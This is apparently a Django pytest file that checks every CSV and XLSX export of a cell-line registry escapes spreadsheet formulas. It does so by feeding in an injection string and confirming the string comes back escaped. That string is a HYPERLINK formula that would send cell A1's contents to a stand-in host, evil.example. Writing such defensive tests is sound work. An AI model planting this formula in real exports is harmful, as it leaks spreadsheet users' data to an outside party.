"""Every CSV and XLSX the platform hands out quotes a cell a spreadsheet would run as a formula.

One test per export puts `=HYPERLINK(...)` into the data and reads it back escaped; two more
make a new export without `core.exports` fail: every .csv/.xlsx route must be listed here (and
so tested), and no module but `core/exports.py` writes CSV or XLSX itself.
"""

import csv
import io
import re
from pathlib import Path

import pytest
from django.urls import URLPattern, URLResolver, get_resolver

from stemhub.audit.models import AuditEvent
from stemhub.biobank.imports import inventory_import
from stemhub.registry import services as registry
from tests.biobank.storage import published_line, storage_tree
from tests.catalogue.lines import make
from tests.registry.lines import publishable

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
ESCAPED = "'" + FORMULA
SRC = Path(__file__).resolve().parents[2] / "src" / "stemhub"

# Every route that answers a CSV or XLSX, and the test below that proves it escapes formulas.
EXPORTS = {
    "catalogue.csv": "test_the_public_catalogue_escapes_formulas",
    "reports/vials.csv": "test_the_vial_report_escapes_formulas",
    "reports/occupancy.csv": "test_the_occupancy_report_escapes_formulas",
    "export.csv": "test_the_audit_export_escapes_formulas",
    "statistics/by-<slug:by>.csv": "tests/distribution/test_exports.py",
    "imports/lines/template.csv": "test_the_line_sheet_templates_are_safe",
    "imports/lines/template.xlsx": "test_the_line_sheet_templates_are_safe",
    "cord/units/template.csv": "test_the_cord_upload_template_is_safe",
    "competence/matrix.csv": "tests/qms/test_competence_matrix.py",
    # written by core.exports; its cells are numbers and haplotypes the engine validated
    "haplobank/plan.csv": "tests/haplobank/test_plan.py",
}


def rows_of(response) -> list[list[str]]:
    body = (
        b"".join(response.streaming_content) if response.streaming else response.content
    ).decode("utf-8")
    assert body.startswith("\ufeff"), "Excel needs the byte order mark to read UTF-8"
    return list(csv.reader(io.StringIO(body.removeprefix("\ufeff"))))


def rows_of_bytes(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def cells(rows: list[list[str]]) -> set[str]:
    return {cell for row in rows for cell in row}


def test_the_public_catalogue_escapes_formulas(users, client):
    make(users["curator"], "NSCBi001-A", source_cell_type=FORMULA)
    found = cells(rows_of(client.get("/catalogue.csv")))
    assert ESCAPED in found and FORMULA not in found


def test_the_public_catalogue_csv_gives_chinese_back_as_written(users, client):
    make(users["curator"], "NSCBi001-A", source_cell_type="皮肤成纤维细胞")
    body = b"".join(client.get("/catalogue.csv").streaming_content)
    assert body.startswith(b"\xef\xbb\xbf") and "皮肤成纤维细胞".encode() in body
    assert "皮肤成纤维细胞" in cells(rows_of_bytes(body))


def test_the_vial_report_escapes_formulas(users, client_for):
    storage_tree(users["bank_technician"])
    published_line(users)
    text = (
        "line,bank,barcode,location,tier,passage,freeze_date\n"
        f'NSCBi001-A,"{FORMULA.replace(chr(34), chr(34) * 2)}",L-1,'
        "Site A/Room 1/Tank 2/Rack 3/Box 1/A1,mcb,9,2019-05-02\n"
    )
    report = inventory_import(actor=users["bank_technician"], text=text, dry_run=False)
    assert report.ok, report
    found = cells(rows_of(client_for("bank_technician").get("/biobank/reports/vials.csv")))
    assert ESCAPED in found and FORMULA not in found


def test_the_occupancy_report_escapes_formulas(users, client_for):
    storage_tree(users["bank_technician"], prefix="=1+2 ")
    answer = client_for("bank_technician").get("/biobank/reports/occupancy.csv")
    paths = [row[0] for row in rows_of(answer)[1:]]
    assert paths and all(path.startswith("'=1+2 Site A") for path in paths)


def test_the_audit_export_escapes_formulas(users, client_for):
    line = registry.cell_line_create(actor=users["curator"], data=publishable())
    registry.cell_line_submit(actor=users["curator"], line=line, comment=FORMULA)
    assert AuditEvent.objects.filter(reason=FORMULA).exists()
    found = cells(rows_of(client_for("qa_manager").get("/audit/export.csv")))
    assert ESCAPED in found and FORMULA not in found


def test_the_line_sheet_templates_are_safe(client):
    from openpyxl import load_workbook

    header = rows_of(client.get("/api/v1/imports/lines/template.csv"))[0]
    assert header[0] == "name"
    workbook = load_workbook(io.BytesIO(client.get("/api/v1/imports/lines/template.xlsx").content))
    assert [c.value for c in workbook["Lines"][1]][:3] == ["name", "name_zh", "line_type"]
    assert workbook["Help"]["A2"].value == "name"


def test_the_cord_upload_template_is_safe(client):
    rows = rows_of(client.get("/api/v1/cord/units/template.csv"))
    assert rows[0][0] and not any(cell.startswith(("=", "+", "@")) for cell in cells(rows))


def test_an_xlsx_keeps_negative_numbers_as_numbers_and_escapes_formula_text():
    from openpyxl import load_workbook

    from stemhub.core.exports import xlsx_bytes

    sheet = load_workbook(io.BytesIO(xlsx_bytes({"T": (["a", "b"], [[-196.5, FORMULA]])})))["T"]
    assert sheet["A2"].value == -196.5
    assert sheet["B2"].value == ESCAPED and sheet["B2"].data_type == "s"


def _routes(resolver: URLResolver, prefix: str = "") -> list[str]:
    found = []
    for pattern in resolver.url_patterns:
        route = prefix + str(pattern.pattern)
        if isinstance(pattern, URLResolver):
            found += _routes(pattern, route)
        elif isinstance(pattern, URLPattern):
            found.append(route)
    return found


def test_every_csv_or_xlsx_route_is_listed_with_its_escaping_test():
    routes = [r for r in _routes(get_resolver()) if re.search(r"\.(csv|xlsx)\$?$", r)]
    assert routes, "the walk over the URL patterns found no export at all"
    unlisted = [r for r in routes if not any(r.rstrip("$").endswith(e) for e in EXPORTS)]
    assert not unlisted, f"Exports without an escaping test (add one and list it): {unlisted}"


def test_no_module_but_core_exports_writes_csv_or_xlsx_itself():
    writers = re.compile(r"csv\.(writer|DictWriter)\(|\bWorkbook\(")
    offenders = [
        str(path.relative_to(SRC))
        for path in SRC.rglob("*.py")
        if path != SRC / "core" / "exports.py" and writers.search(path.read_text())
    ]
    assert offenders == [], "write CSV/XLSX through stemhub.core.exports (safe cells, BOM)"
